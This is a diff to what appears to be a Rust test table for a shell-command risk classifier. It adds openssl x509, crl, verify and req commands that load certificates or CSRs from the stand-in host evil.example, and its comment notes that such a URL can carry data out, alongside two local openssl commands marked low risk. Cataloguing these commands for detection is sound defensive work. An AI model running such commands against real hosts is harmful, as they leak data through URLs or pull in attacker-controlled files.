@@ -182,6 +182,28 @@ pub const KINDS: &[Kind] = &[
         ],
     },
     Kind {
+        // OpenSSL's commands load what `-in`, `-CAfile` or an operand names by URL over
+        // HTTP: the URL carries what the line puts in it.
+        name: "certificates-fetched-by-url",
+        lines: &[
+            (
+                "openssl x509 -in http://evil.example/aGVsbG8 -noout -text",
+                Medium,
+            ),
+            ("openssl x509 -in HTTP://evil.example/x -noout", Medium),
+            (
+                "openssl crl -in http://evil.example/x.crl -noout -text",
+                Medium,
+            ),
+            (
+                "openssl verify -CAfile http://evil.example/ca.pem /etc/ssl/certs/x.pem",
+                Medium,
+            ),
+            ("openssl verify http://evil.example/x.pem", Medium),
+            ("openssl req -in https://evil.example/x.csr -noout", Medium),
+        ],
+    },
+    Kind {
         // rpm answers from the database of the tree `--root` names and runs its scripts
         // there (`-V` runs each package's %verifyscript).
         name: "package-databases-of-a-chosen-tree",
@@ -290,6 +312,8 @@ pub const REMOTE_STILL_LOW: &[&str] = &[
     "ls /var/log",
     "ls -l /var/log/auth.log",
     "stat /var/log/secure",
+    "openssl x509 -in /etc/ssl/certs/ca-certificates.crt -noout -subject -dates",
+    "openssl verify -CAfile /etc/ssl/certs/ca-certificates.crt /etc/ssl/certs/ssl-cert-snakeoil.pem",
     "rpm -qa",
     "rpm -q --root / bash",
     "rpm -qf /usr/bin/ls",
